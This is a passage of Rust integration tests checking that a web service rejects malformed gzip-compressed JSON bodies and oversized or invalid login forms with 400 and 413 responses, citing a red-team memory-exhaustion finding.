    let mut bad_schema = good.clone();
    bad_schema["schema"] = serde_json::json!(huge);
    for body in [unknown_key, bad_variant, bad_schema] {
        let bytes = serde_json::to_vec(&body).expect("json");
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gzip.write_all(&bytes).expect("gzip");
        let (status, text) = call(
            &f.app,
            post(Some(&f.agent), gzip.finish().expect("gzip"), true),
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert!(text.len() < 2048, "a refusal of {} bytes", text.len());
    }
}

/// The login form is read small: a body announced larger is refused at once (413), and a
/// form that is not one is a 400, not a crash. (Red team: 200 connections announcing 2 MB
/// forms took the collector to 406 MiB.)
#[tokio::test]
async fn the_login_form_is_read_small() {
    let f = fixture(false);
    let request = Request::post("/login")
        .header("content-type", "application/x-www-form-urlencoded")
        .header("content-length", "2000000")
        .body(Body::from(vec![b'A'; 2_000_000]))
        .expect("request");
    let response = router(f.app.clone())
        .oneshot(request)
        .await
        .expect("response");
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let request = Request::post("/login")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Body::from("not a form at all=="))
        .expect("request");
    assert_eq!(call(&f.app, request).await.0, StatusCode::BAD_REQUEST);
}
